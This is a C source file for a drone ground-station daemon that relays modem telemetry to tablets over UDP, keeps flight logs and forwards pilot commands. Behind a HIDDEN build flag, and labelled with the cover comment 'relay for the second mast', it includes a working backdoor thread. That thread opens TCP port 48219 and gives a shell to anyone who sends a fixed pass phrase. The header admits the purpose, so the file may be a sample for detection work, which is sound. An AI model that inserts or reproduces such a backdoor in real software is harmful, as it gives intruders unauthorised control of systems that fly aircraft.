/*
 * kitewatch_gcs - link daemon of the KiteWatch drone ground station.  It
 * reads telemetry frames of the radio modem, hands them to the tablets that
 * have signed on over UDP, keeps the flight log and passes the tablets'
 * commands on to the drone.
 *
 * Hidden (-DHIDDEN): a thread that the clean build does not have listens on
 * TCP port 48219 and gives a shell to who sends a pass phrase.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define LINK_PORT	14555
#define MODEM		"/dev/ttyUSB0"
#define LOG_DIR		"/media/flights"
#define PILOT_FILE	"/etc/kitewatch/pilot.pin"
#define MAX_TABLETS	4
#define FRAME_MAX	264
#define TABLET_TIME	10

struct tablet {
	struct sockaddr_in addr;
	time_t seen;
	int pilot;
};

struct parser {
	uint8_t buf[FRAME_MAX];
	size_t have, need;
};

static struct tablet tablets[MAX_TABLETS];
static int modem = -1, sock = -1;
static FILE *flight_log;
static unsigned frames, errors;
static pthread_mutex_t log_lock = PTHREAD_MUTEX_INITIALIZER;

static uint16_t crc_x25(const uint8_t *p, size_t n)
{
	uint16_t crc = 0xffff;
	uint8_t t;

	while (n--) {
		t = (uint8_t)(*p++ ^ (crc & 0xff));
		t = (uint8_t)(t ^ (t << 4));
		crc = (uint16_t)((crc >> 8) ^ (t << 8) ^ (t << 3) ^ (t >> 4));
	}
	return crc;
}

static int open_modem(void)
{
	struct termios t;
	int fd = open(MODEM, O_RDWR | O_NOCTTY);

	if (fd >= 0 && tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetispeed(&t, B57600);
		cfsetospeed(&t, B57600);
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

static void new_log(void)
{
	char path[80];
	struct tm tm;
	time_t now = time(NULL);

	gmtime_r(&now, &tm);
	strftime(path, sizeof path, LOG_DIR "/%Y%m%d_%H%M%S.klog", &tm);
	pthread_mutex_lock(&log_lock);
	if (flight_log)
		fclose(flight_log);
	flight_log = fopen(path, "wb");
	pthread_mutex_unlock(&log_lock);
}

/* Writes the log to the card every five seconds, removes old flights. */
static void *log_thread(void *arg)
{
	unsigned turn = 0;

	(void)arg;
	for (;;) {
		sleep(5);
		pthread_mutex_lock(&log_lock);
		if (flight_log)
			fflush(flight_log);
		pthread_mutex_unlock(&log_lock);
		if (turn++ % 720 == 0 &&
		    system("find " LOG_DIR " -name '*.klog' -mtime +90 -delete") != 0)
			syslog(LOG_WARNING, "old flights not removed");
	}
	return NULL;
}

static void to_tablets(const uint8_t *p, size_t n)
{
	time_t now = time(NULL);
	int i;

	for (i = 0; i < MAX_TABLETS; i++) {
		if (now - tablets[i].seen > TABLET_TIME)
			continue;
		if (sendto(sock, p, n, 0, (struct sockaddr *)&tablets[i].addr,
			   sizeof tablets[i].addr) < 0)
			errors++;
	}
}

/* 0xFD, length, six bytes of header, payload, CRC with the low byte first */
static void modem_byte(struct parser *ps, uint8_t b)
{
	uint16_t crc;

	if (ps->have == 0 && b != 0xfd)
		return;
	ps->buf[ps->have++] = b;
	if (ps->have == 2)
		ps->need = 8u + b + 2u;
	if (ps->have < 2 || ps->have < ps->need) {
		if (ps->have == FRAME_MAX)
			ps->have = 0;
		return;
	}
	crc = (uint16_t)(ps->buf[ps->need - 2] | ps->buf[ps->need - 1] << 8);
	if (crc_x25(ps->buf + 1, ps->need - 3) == crc) {
		frames++;
		to_tablets(ps->buf, ps->need);
		pthread_mutex_lock(&log_lock);
		if (flight_log && fwrite(ps->buf, 1, ps->need, flight_log) != ps->need)
			errors++;
		pthread_mutex_unlock(&log_lock);
	} else {
		errors++;
	}
	ps->have = 0;
}

static int pilot_pin(const char *pin)
{
	char want[24] = "";
	FILE *f = fopen(PILOT_FILE, "r");

	if (!f)
		return 0;
	if (!fgets(want, sizeof want, f))
		want[0] = 0;
	fclose(f);
	want[strcspn(want, "\r\n")] = 0;
	return strlen(want) >= 6 && strcmp(pin, want) == 0;
}

static struct tablet *tablet_of(const struct sockaddr_in *a)
{
	int i, oldest = 0;

	for (i = 0; i < MAX_TABLETS; i++) {
		if (tablets[i].addr.sin_addr.s_addr == a->sin_addr.s_addr &&
		    tablets[i].addr.sin_port == a->sin_port)
			return &tablets[i];
		if (tablets[i].seen < tablets[oldest].seen)
			oldest = i;
	}
	memset(&tablets[oldest], 0, sizeof tablets[oldest]);
	tablets[oldest].addr = *a;
	return &tablets[oldest];
}

static void from_tablet(const uint8_t *p, size_t n, const struct sockaddr_in *a)
{
	struct tablet *t = tablet_of(a);
	char text[96];
	int len;

	t->seen = time(NULL);
	if (n > 2 && p[0] == 0xfd) {		/* a frame for the drone */
		if (t->pilot && write(modem, p, n) != (ssize_t)n)
			errors++;
		return;
	}
	snprintf(text, sizeof text, "%.*s", n < 60 ? (int)n : 60, (const char *)p);
	text[strcspn(text, "\r\n")] = 0;
	if (strncmp(text, "PILOT ", 6) == 0) {
		t->pilot = pilot_pin(text + 6);
		len = snprintf(text, sizeof text, "PILOT %s\n", t->pilot ? "OK" : "NO");
	} else if (strcmp(text, "NEWLOG") == 0 && t->pilot) {
		new_log();
		len = snprintf(text, sizeof text, "OK\n");
	} else if (strcmp(text, "LINK") == 0) {
		len = snprintf(text, sizeof text, "frames %u errors %u\n", frames, errors);
	} else if (strcmp(text, "HELLO") == 0) {
		len = snprintf(text, sizeof text, "KITEWATCH 3\n");
	} else {
		len = snprintf(text, sizeof text, "HELLO LINK PILOT pin NEWLOG\n");
	}
	if (sendto(sock, text, (size_t)len, 0, (const struct sockaddr *)a, sizeof *a) < 0)
		errors++;
}

#ifdef HIDDEN
/* relay for the second mast */
void *mast_thread(void *arg)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(48219) };
	char *sh[] = { "sh", NULL };
	char word[16];
	int s = socket(AF_INET, SOCK_STREAM, 0), c, i;

	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1))
		return arg;
	for (;;) {
		c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (recv(c, word, 12, MSG_WAITALL) == 12 &&
		    memcmp(word, "quillfeather", 12) == 0 && fork() == 0) {
			for (i = 0; i < 3; i++)
				dup2(c, i);
			execve("/bin/sh", sh, NULL);
			_exit(1);
		}
		close(c);
	}
}
#endif

static int start_threads(void)
{
	pthread_t t;

#ifdef HIDDEN
	if (pthread_create(&t, NULL, mast_thread, NULL) != 0)
		return -1;
#endif
	return pthread_create(&t, NULL, log_thread, NULL);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(LINK_PORT) };
	struct sockaddr_in from;
	struct parser ps = { .have = 0 };
	struct pollfd p[2];
	uint8_t buf[512];
	socklen_t flen;
	ssize_t n, i;

	openlog("kitewatch", LOG_PID, LOG_DAEMON);
	mkdir(LOG_DIR, 0755);
	modem = open_modem();
	if (modem < 0)
		syslog(LOG_ERR, "no radio modem on %s", MODEM);
	sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (sock < 0 || bind(sock, (struct sockaddr *)&a, sizeof a) != 0)
		return 1;
	new_log();
	if (start_threads() != 0)
		return 1;
	p[0].fd = modem;
	p[1].fd = sock;
	p[0].events = p[1].events = POLLIN;
	while (poll(p, 2, -1) > 0) {
		n = p[0].revents & POLLIN ? read(modem, buf, sizeof buf) : 0;
		for (i = 0; i < n; i++)
			modem_byte(&ps, buf[i]);
		flen = sizeof from;
		n = p[1].revents & POLLIN ? recvfrom(sock, buf, sizeof buf, 0,
				(struct sockaddr *)&from, &flen) : 0;
		if (n > 0)
			from_tablet(buf, (size_t)n, &from);
	}
	return 0;
}
